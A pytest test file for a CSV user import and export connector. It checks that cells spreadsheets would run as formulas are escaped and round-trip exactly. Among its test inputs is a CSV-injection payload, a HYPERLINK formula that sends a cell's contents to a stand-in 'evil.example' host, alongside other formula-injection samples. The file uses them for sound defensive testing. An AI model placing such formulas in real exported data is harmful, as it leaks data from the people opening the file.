"""Fluix's import layouts and the export: one row a group, no formulas, and every text back as it was."""

from __future__ import annotations

import csv
import io
import tempfile
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from connectors.errors import RetryableError, UnreadableError
from connectors.fluix import csv_files
from connectors.fluix.csv_files import ImportRow, escaped, export_users, read_import, unescaped, write_table
from connectors.model import Certificate, normalise_name
from connectors.text import unwanted_character

ANNA = {"email": "anna@example.com", "name": "Anna Berg", "groups": ["Field", "Office"]}
BOB = {"email": "bob@example.com", "name": "Bob", "groups": []}


def exported(users):
    stream = io.StringIO(newline="")
    assert export_users(users, stream) == len(users)
    return stream.getvalue()


@pytest.fixture
def imported(tmp_path):
    """Write a text as users.csv and read it."""

    def read(text, existing=()):
        file = tmp_path / "users.csv"
        file.write_bytes(text.encode())
        return read_import(file, existing)

    return read


def table(*rows, header="User Name,Email,Group Name"):
    return "\r\n".join([header, *rows, ""])


# The export


def test_a_user_has_a_row_for_each_group_and_one_without_groups_an_empty_cell():
    assert exported([ANNA, BOB]) == (
        "User Name,Email,Group Name\r\n"
        "Anna Berg,anna@example.com,Field\r\n"
        "Anna Berg,anna@example.com,Office\r\n"
        "Bob,bob@example.com,\r\n"
    )


def test_an_export_of_nobody_is_a_header():
    assert exported([]) == "User Name,Email,Group Name\r\n"


def test_any_other_table_is_as_safe():
    stream = io.StringIO(newline="")
    assert write_table(("A", "B"), [("=1", "x"), ("a,b", "@y")], stream) == 2
    assert stream.getvalue() == "A,B\r\n'=1,x\r\n\"a,b\",'@y\r\n"


def test_users_may_be_a_stream():
    stream = io.StringIO(newline="")
    assert export_users(iter([ANNA, BOB]), stream) == 2


@pytest.mark.parametrize("column", ["name", "email", "groups"])
@pytest.mark.parametrize(
    "cell",
    [
        '=HYPERLINK("https://evil.example/?"&A1,"Anna")',
        "=1+1",
        "+1-555",
        "-2",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "'=1+1",
        "''@x",
    ],
)
def test_what_a_spreadsheet_would_run_is_neutralised_in_every_column(column, cell):
    user = {"email": "a@example.com", "name": "A", "groups": []} | {column: [cell] if column == "groups" else cell}
    (_, row) = csv.reader(io.StringIO(exported([user]), newline=""))
    assert row[["name", "email", "groups"].index(column)] == f"'{cell}"
    assert not any(value.startswith(("=", "+", "-", "@", "\t", "\r")) for value in row)


@pytest.mark.parametrize(
    "cell", ["", "'", "''", "'s-Hertogenbosch", "O'Neil", "A=B", "a@example.com", " x", '"', "Zoë"]
)
def test_what_no_spreadsheet_runs_stays_as_it_is(cell):
    assert escaped(cell) == unescaped(cell) == cell


@pytest.mark.parametrize(("written", "meant"), [("'=1", "=1"), ("''=1", "'=1"), ("=1", "=1"), ("'a", "'a")])
def test_exactly_one_apostrophe_is_taken_off(written, meant):
    assert unescaped(written) == meant


@given(st.text("'=+-@\t\ra ", max_size=6) | st.text())
def test_escaping_is_undone_exactly(cell):
    assert unescaped(escaped(cell)) == cell


def outright(text):
    """What CsvSource lets pass as a name, as it is."""
    return text == text.strip() and unwanted_character(text, joiners=True) is None


first = st.text("=+-@'", max_size=3)
rest = st.text(st.characters(exclude_categories=["Cs", "Cc"]), max_size=8) | st.text("ab,;'\" =", max_size=8)
names = st.builds(str.__add__, first, rest).filter(outright)
groups = st.lists(names.filter(normalise_name), max_size=4, unique_by=normalise_name)
emails = st.builds(lambda start, middle: f"{start}{middle}x@example.com", st.text("=+-'", max_size=3), st.text("abc.+'", max_size=4))  # fmt: skip
users = st.lists(
    st.fixed_dictionaries({"email": emails, "name": names, "groups": groups}), max_size=5, unique_by=lambda user: user["email"]
)  # fmt: skip


@given(users)
def test_what_was_exported_is_imported_as_it_was(people):
    with tempfile.TemporaryDirectory() as folder:
        file = Path(folder) / "users.csv"
        file.write_bytes(exported(people).encode())
        rows = read_import(file, set())
    assert [(row.email, row.name, row.groups) for row in rows] == [
        (user["email"], user["name"], tuple(sorted(user["groups"]))) for user in people
    ]
    assert {row.verdict for row in rows if row.name} <= {"new"}


# The import


def test_both_layouts_say_the_same(imported):
    rows = [
        ImportRow("anna@example.com", "Anna Berg", ("Field", "Office"), "new", ""),
        ImportRow("bob@example.com", "Bob", (), "new", ""),
    ]
    lines = exported([ANNA, BOB]).splitlines()[1:]
    assert imported(table(*lines)) == rows
    assert imported(table(*lines, header="Full Name,Email,Groups")) == rows


@pytest.mark.parametrize("header", ["User Name,Email", "Full Name,Email"])
def test_the_groups_column_may_be_missing(imported, header):
    assert imported(table("Bob,bob@example.com", header=header)) == [ImportRow("bob@example.com", "Bob", (), "new", "")]


def test_a_cell_is_one_group_whatever_is_in_it(imported):
    (row,) = imported(table('Bob,bob@example.com,"Field; Office, North"'))
    assert row.groups == ("Field; Office, North",)


def test_who_is_in_fluix_already_exists_in_any_spelling(imported):
    (anna, bob) = imported(table("Anna,ANNA@Example.com,", "Bob,bob@example.com,"), {"anna@example.com"})
    assert (anna.email, anna.verdict, bob.verdict) == ("ANNA@Example.com", "exists", "new")
    assert anna.message


def test_who_exists_by_an_address_that_looks_like_a_formula_exists(imported):
    (row,) = imported(exported([{"email": "=a@example.com", "name": "A", "groups": []}]), {"=a@example.com"})
    assert (row.email, row.verdict) == ("=a@example.com", "exists")


def test_a_row_that_cannot_be_read_is_invalid_and_says_where(imported):
    bob, bad = imported(table("Anna,anna at example,Field", "Bob,bob@example.com,Field"))
    assert (bob.email, bob.verdict) == ("bob@example.com", "new")
    assert (bad.email, bad.name, bad.groups, bad.verdict) == ("anna at example", "", (), "invalid")
    assert "line 2" in bad.message


def test_a_person_without_a_name_is_invalid(imported):
    (row,) = imported(table(",anna@example.com,Field"))
    assert (row.email, row.verdict) == ("anna@example.com", "invalid")
    assert row.message


def test_rows_that_contradict_each_other_are_a_duplicate(imported):
    bob, anna = imported(table("Anna,anna@example.com,Field", "Anne,ANNA@example.com,Office", "Bob,bob@example.com,"))
    assert bob.verdict == "new"
    assert (anna.email, anna.verdict) == ("anna@example.com", "duplicate")
    assert "about the same person" in anna.message


def test_one_address_escaped_and_not_is_still_one_person(imported):
    one, other = imported(table("A,=a@example.com,", "A,'=a@example.com,"))
    assert (one.email, one.verdict) == ("=a@example.com", "new")
    assert (other.email, other.verdict) == ("=a@example.com", "duplicate")


def test_one_group_escaped_and_not_is_one_group(imported):
    (row,) = imported(table("A,a@example.com,=North", "A,a@example.com,'=NORTH"))
    assert len(row.groups) == 1


def test_an_address_that_is_none_without_its_apostrophe_is_invalid(imported):
    (row,) = imported(table("A,'@example.com,"))
    assert (row.email, row.verdict) == ("@example.com", "invalid")
    assert row.message


def test_the_email_of_an_invalid_row_is_unescaped_too(imported):
    (row,) = imported(table("A,'=a at example,"))
    assert (row.email, row.verdict) == ("=a at example", "invalid")


def test_a_header_without_rows_is_nothing_to_import(imported):
    assert imported(table()) == []


@pytest.mark.parametrize("text", ["", "Name,Mail\r\nA,a@example.com\r\n"])
def test_a_file_that_is_no_import_raises(imported, text):
    with pytest.raises(UnreadableError):
        imported(text)


def test_a_file_that_is_not_there_raises(tmp_path):
    with pytest.raises(UnreadableError):
        read_import(tmp_path / "none.csv", set())


def test_a_file_that_changed_while_it_was_read_is_not_imported(imported, monkeypatch):
    class Changing(csv_files.CsvSource):
        def read(self):
            *records, certificate = super().read()
            yield from records
            yield Certificate(certificate.records, reasons=("users.csv changed while it was read",))

    monkeypatch.setattr(csv_files, "CsvSource", Changing)
    with pytest.raises(RetryableError, match="changed"):
        imported(exported([ANNA]))
